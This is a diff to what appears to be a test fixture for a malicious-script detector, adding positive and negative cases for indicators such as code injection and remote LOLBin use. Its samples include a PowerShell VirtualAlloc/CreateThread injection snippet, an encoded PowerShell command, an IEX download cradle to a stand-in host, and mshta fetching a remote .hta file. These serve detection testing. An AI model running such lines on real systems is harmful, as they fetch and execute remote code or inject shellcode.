@@ -65,8 +65,8 @@ export const SCRIPT_CASES: readonly IndicatorCase[] = [
   ],
   [
     "script-character-codes",
+    script("vbscript", [], decoded({ encoding: "char-codes", decodedLength: 80, preview: "CreateObject" })),
     script("vbscript", [], decoded({ encoding: "char-codes", decodedLength: 80 })),
-    script("vbscript", [], decoded({ encoding: "char-codes", decodedLength: 8 })),
   ],
   [
     "script-nested-encoding",
@@ -76,7 +76,7 @@ export const SCRIPT_CASES: readonly IndicatorCase[] = [
   [
     "script-holds-program",
     script("python", [], decoded({ contentType: "pe-exe" })),
-    script("python", [], decoded({ contentType: "png" })),
+    script("python", [], decoded({ contentType: "lnk", decodedLength: 20 })),
   ],
   ["script-encoded-file", { type: "vbe" }, { type: "vbs" }],
   ["hta-application", { type: "hta" }, { type: "html" }],
@@ -111,6 +111,17 @@ export const SCRIPT_CASES: readonly IndicatorCase[] = [
     script("powershell", [["ransom-note", 0, "# the decryption key is derived from the password"]]),
   ],
   [
+    "script-code-injection",
+    script("powershell", [
+      ["code-injection", 0, "$p = [W]::VirtualAlloc(0, $n, 0x3000, 0x40)"],
+      ["code-injection", 0, "[W]::CreateThread(0, 0, $p, 0, 0, 0)"],
+    ]),
+    script("perl", [
+      ["code-injection", 0, "by C<CreateThread> on Windows"],
+      ["code-injection", 0, "CreateThread()"],
+    ]),
+  ],
+  [
     "script-encoded-command",
     script("batch", [["encoded-command", 0, "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A"]]),
     script("powershell", [["encoded-command", 0, "[Convert]::FromBase64String($text)"]]),
@@ -124,6 +135,11 @@ export const SCRIPT_CASES: readonly IndicatorCase[] = [
     "script-download-cradle",
     script("powershell", [["download", 0, "IEX (New-Object Net.WebClient).DownloadString('http://example.test/a')"]]),
     script("powershell", [["download", 0, "$page = Invoke-WebRequest http://example.test/a"]]),
+  ],
+  [
+    "script-remote-lolbin",
+    script("batch", [["lolbin", 0, "mshta http://example.test/a.hta"]]),
+    script("batch", [["lolbin", 0, "rundll32 shell32.dll,Control_RunDLL"]]),
   ],
   [
     "script-host-dropper",
